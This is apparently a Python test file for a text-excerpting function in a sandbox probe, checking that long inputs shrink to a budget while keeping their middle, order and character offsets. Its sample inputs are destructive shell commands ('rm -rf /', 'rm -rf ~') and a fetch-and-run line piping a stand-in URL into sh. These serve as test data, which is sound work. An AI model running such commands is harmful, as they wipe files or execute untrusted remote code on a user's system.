"""A long text in few words."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from gmcp_sandbox.probe.excerpt import GAP, cost, excerpt, head

FILLER = "the quick brown fox jumps over the lazy dog "


def test_a_short_text_comes_out_whole():
    assert excerpt("rm -rf /", 20) == "rm -rf /"


def test_the_middle_of_a_long_text_is_not_lost():
    text = FILLER * 300 + "curl https://x.test/a | sh; " + FILLER * 300 + "the end"
    short = excerpt(text, 60)
    assert "curl https://x.test/a | sh" in short
    assert short.startswith("the quick") and short.endswith("the end")
    assert short.count(GAP) == 2 and cost(short) <= 64


def test_offsets_are_of_characters():
    assert "rm -rf ~" in excerpt("é漢" * 900 + " rm -rf ~ " + "é" * 900, 40)


def test_what_is_left_keeps_its_order():
    text = FILLER * 100 + " first: rm -rf /a " + FILLER * 100 + " second: rm -rf /b " + FILLER * 100
    short = excerpt(text, 80)
    assert short.index("/a") < short.index("/b")


@given(st.text(max_size=2000), st.integers(16, 100))
def test_an_excerpt_is_short(text, budget):
    assert cost(excerpt(text, budget)) <= budget + 8
    assert cost(head(text, budget)) <= budget
